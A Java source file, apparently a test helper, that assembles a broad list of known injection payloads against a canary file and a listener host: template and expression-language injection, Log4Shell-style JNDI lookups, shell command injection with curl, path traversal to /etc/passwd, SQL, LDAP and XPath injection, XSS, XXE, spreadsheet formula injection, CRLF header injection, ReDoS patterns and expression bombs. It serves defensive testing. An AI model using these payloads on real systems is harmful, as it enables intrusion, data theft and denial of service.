package dev.tieline.app;

import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;

/**
 * Texts that do something in one template or expression language or another, or in whoever shows
 * them: families that are publicly known, in our own words.
 *
 * @param host where a listener notes who comes
 * @param file that must not be made
 */
record EscapePayloads(String host, String file) {
    private static final String NAME = "escape.canary";

    /** All of them; each is one line of text or has what no line may have. */
    List<String> all() {
        List<String> all = new ArrayList<>();
        List.<Consumer<List<String>>>of(
                        this::reflection,
                        this::templates,
                        this::lookups,
                        this::scripts,
                        this::shells,
                        this::markup,
                        this::forms,
                        this::lengths)
                .forEach(family -> family.accept(all));
        return all;
    }

    /** Java by way of expressions: OGNL, SpEL, MVEL, JEXL, EL, Groovy. */
    private void reflection(List<String> all) {
        String touch = "touch " + file;
        all.addAll(
                List.of(
                        "record.getClass()",
                        "record.class.classLoader",
                        "''.getClass().forName('java.lang.Runtime')",
                        "''.class.forName('java.lang.System').getProperty('" + NAME + "')",
                        "java.lang.Runtime.getRuntime().exec('" + touch + "')",
                        "T(java.lang.Runtime).getRuntime().exec('" + touch + "')",
                        "T(java.lang.System).getProperty('" + NAME + "')",
                        "#{T(java.lang.System).getenv()}",
                        "@java.lang.System@getProperty('" + NAME + "')",
                        "(#a=@java.lang.Runtime@getRuntime().exec('" + touch + "'))",
                        "%{(#_memberAccess['allowStaticMethodAccess']=true)(#x)}",
                        "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
                        "new java.io.File('" + file + "').createNewFile()",
                        "new java.net.URL('http://" + host + "/').openStream()",
                        "new ProcessBuilder('sh','-c','" + touch + "').start()",
                        "\"\".class.protectionDomain.codeSource",
                        "record.email.class.module.layer",
                        "record['class']['classLoader']['resources']",
                        "session.getServletContext().getClassLoader()",
                        "applicationScope",
                        "#{facesContext.externalContext.redirect('http://" + host + "')}",
                        "#{request.getClass().getClassLoader()}",
                        "@groovy.transform.ASTTest(value={assert 1==2}) def x",
                        "import java.util.*; System.exit(7)",
                        "Class.forName('javax.script.ScriptEngineManager')",
                        "org.springframework.util.StreamUtils.copy(a,b)",
                        "sun.misc.Unsafe.getUnsafe()",
                        "google.protobuf.Any{type_url: 'x'}",
                        "type(record).fields()",
                        "dyn(record).constructor"));
    }

    /** Pages and mails that are made of templates, on every platform. */
    private void templates(List<String> all) {
        all.addAll(
                List.of(
                        "${7*7}",
                        "${{7*7}}",
                        "#{7*7}",
                        "*{7*7}",
                        "~{7*7}",
                        "@(7*7)",
                        "<%= 7*7 %>",
                        "<#assign x='freemarker.template.utility.Execute'?new()>${x('id')}",
                        "${'freemarker.template.utility.ObjectConstructor'?new()('java.io.File')}",
                        "#set($x='')#set($c=$x.class.forName('java.lang.Runtime'))$c",
                        "$class.inspect('java.lang.Runtime').type.getRuntime()",
                        "[[${T(java.lang.Runtime).getRuntime()}]]",
                        "__${new java.util.Scanner(new java.io.File('/etc/passwd')).next()}__::.x",
                        "{{7*7}}",
                        "{{ '7'*7 }}",
                        "{{config.items()}}",
                        "{{''.__class__.__mro__[1].__subclasses__()}}",
                        "{{request.application.__globals__.__builtins__.__import__('os')}}",
                        "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
                        "{% include '/etc/passwd' %}",
                        "{{#with \"s\" as |string|}}{{#with split as |c|}}{{c}}{{/with}}{{/with}}",
                        "{{constructor.constructor('return process')()}}",
                        "{php}echo 7*7;{/php}",
                        "{$smarty.version}",
                        "{{_self.env.registerUndefinedFilterCallback('exec')}}",
                        "<?php system('touch " + file + "'); ?>",
                        "<% require 'socket'; TCPSocket.new('" + host + "') %>",
                        "${\"z\".join(\"ab\")}{{7*'7'}}<%=7%>#{7}",
                        "{{{{{{}}}}}}",
                        "${${${record.email}}}",
                        "$${record.email}",
                        "{{subject}}",
                        "{{ text }}",
                        "{id}",
                        "{date}",
                        "%(password)s %s %n %x"));
    }

    /** Names that something behind looks up: JNDI, logs, environments, properties. */
    private void lookups(List<String> all) {
        all.addAll(
                List.of(
                        "${jndi:ldap://" + host + "/a}",
                        "${jndi:dns://" + host + "/a}",
                        "${jndi:rmi://" + host + "/a}",
                        "${${lower:j}ndi:${lower:l}dap://" + host + "/a}",
                        "${${::-j}${::-n}di:ldap://" + host + "/a}",
                        "${jndi:ldap://${sys:" + NAME + "}." + host + "/a}",
                        "${sys:" + NAME + "}",
                        "${env:PATH}",
                        "${java:version}",
                        "${ctx:loginId}",
                        "${script:javascript:java.lang.Runtime}",
                        "${url:UTF-8:http://" + host + "/}",
                        "${dns:address|" + host + "}",
                        "${file:UTF-8:/etc/passwd}",
                        "${base64Decoder:SGVsbG8=}",
                        "{0} {1}",
                        "%d{HH} %X{a} %replace{x}{x}{y}",
                        "$PATH ${PATH} %PATH% !PATH!"));
    }

    /** JavaScript and Python. */
    private void scripts(List<String> all) {
        all.addAll(
                List.of(
                        "process.env",
                        "require('child_process').execSync('touch " + file + "')",
                        "this.constructor.constructor('return this')()",
                        "__proto__",
                        "constructor.prototype.polluted",
                        "record.__proto__.polluted = true",
                        "{\"__proto__\":{\"admin\":true}}",
                        "__import__('os').system('touch " + file + "')",
                        "().__class__.__bases__[0].__subclasses__()",
                        "eval('1+1')",
                        "new Function('return 7*7')()",
                        "import('fs')",
                        "fetch('http://" + host + "/')",
                        "lambda: open('" + file + "','w')"));
    }

    /** What shells, files and databases would do. */
    private void shells(List<String> all) {
        all.addAll(
                List.of(
                        "$(touch " + file + ")",
                        "`touch " + file + "`",
                        "; touch " + file + " #",
                        "| curl http://" + host + "/",
                        "&& touch " + file,
                        "../../../../../etc/passwd",
                        "..%2f..%2f..%2fetc%2fpasswd",
                        "....//....//etc/passwd",
                        "..\\..\\windows\\win.ini",
                        "/../?x=y#z",
                        "//" + host + "/",
                        "http://" + host + "/",
                        "file:///etc/passwd",
                        "' OR '1'='1",
                        "'; DROP TABLE entry; --",
                        "\" UNION SELECT value FROM credential --",
                        "*)(uid=*))(|(uid=*",
                        "' or count(/*)=1 or ''='"));
    }

    /** What browsers, spreadsheets and readers of mail would do. */
    private void markup(List<String> all) {
        all.addAll(
                List.of(
                        "<script src=http://" + host + "/></script>",
                        "<img src=http://" + host + "/ onerror=alert(1)>",
                        "\"><svg onload=alert(1)>",
                        "javascript:alert(1)",
                        "<!--#exec cmd=\"touch " + file + "\"-->",
                        "<!DOCTYPE a [<!ENTITY x SYSTEM \"http://" + host + "/\">]><a>&x;</a>",
                        "=1+1",
                        "=HYPERLINK(\"http://" + host + "/\",\"x\")",
                        "+cmd|' /C calc'!A0",
                        "-2+3+cmd|' /C calc'!A0",
                        "@SUM(1+1)",
                        "=cmd|' /C touch'!A0"));
    }

    /** What ends a line, a text or a field. */
    private void forms(List<String> all) {
        all.addAll(
                List.of(
                        "a\r\nBcc: someone@" + host,
                        "a\nX-Injected: 1\n\nbody",
                        "a\r\n.\r\nMAIL FROM:<x@y>",
                        "a b HTTP/1.1\r\nHost: " + host + "\r\n\r\n",
                        "%0d%0aX-Injected:%201",
                        "a\tb",
                        "a\u2028b",
                        "\u001b]0;owned\u0007\u001b[2J",
                        "\u202emoc.elpmaxe",
                        "\ufeffa",
                        "\uff04\uff5b7*7\uff5d",
                        "a%00b",
                        "%%%",
                        "%zz%u0041",
                        "\\u0024\\u007b7*7\\u007d",
                        "\"",
                        "\\",
                        "'",
                        "?a=b&c=d",
                        "#fragment"));
    }

    /** What is large or deep. */
    private void lengths(List<String> all) {
        all.addAll(
                List.of(
                        "1e999999",
                        "9".repeat(300),
                        "(".repeat(2_000),
                        "[".repeat(2_000),
                        "{".repeat(2_000),
                        "!".repeat(2_000) + "true",
                        "-".repeat(2_000) + "x",
                        "a" + ".b".repeat(1_000),
                        "1" + "+1".repeat(1_900),
                        "a".repeat(3_000) + "!",
                        "${".repeat(1_000),
                        "{{".repeat(1_000) + "}}".repeat(1_000),
                        "(a+)+$",
                        "^(([a-z])+.)+[A-Z]([a-z])+$",
                        "(?=a)(?<!b)\\1"));
    }

    /** Expressions that are right and would never end, or fill the memory. */
    static List<String> bombs() {
        String ten = "[0,1,2,3,4,5,6,7,8,9]";
        String many = "record.text.split('')";
        return List.of(
                ten + nested(ten, 6),
                "string(size(" + many + ".map(a, " + many + ".map(b, " + many + ".size()))))",
                "string(" + many + ".all(a, " + many + ".all(b, " + many + ".all(c, true))))",
                grown("record.text", "replace('a', 'aaaaaaaaaaaaaaaaaaaa')", 9),
                "record.text.split('').map(a, record.text).join(record.text)",
                doubled("record.text", 9),
                "string(size(" + doubled("[record.text]", 9) + "))",
                "string(record.text.matches('(a+)+(b+)+$'))",
                "string(record.text.matches('((a{30}){30})$'))",
                "string(record.text.matches(record.pattern))",
                grown("record.text", "replace('', 'x')", 9),
                "string([[[[[[1]]]]]].map(x, " + ten + nested("x", 2) + ").size())",
                grown("record.text", "slug()", 40),
                grown("record.text", "sha256hex()", 90),
                "string(9223372036854775807 + size(record.text))",
                "string(duration(record.pattern))",
                "string(timestamp(record.pattern))",
                "string(double(record.pattern))");
    }

    private static String nested(String list, int depth) {
        String inner = "1";
        for (int i = 0; i < depth; i++) {
            inner = list + ".map(v" + i + ", " + inner + ")";
        }
        return ".map(v, " + inner + ").size() > 0 ? 'x' : 'y'";
    }

    private static String grown(String start, String call, int times) {
        return start + ("." + call).repeat(times);
    }

    private static String doubled(String start, int times) {
        String text = start;
        for (int i = 0; i < times; i++) {
            text = "(" + text + "+" + text + ")";
        }
        return text.length() > 4_000 ? doubled(start, times - 1) : text;
    }
}
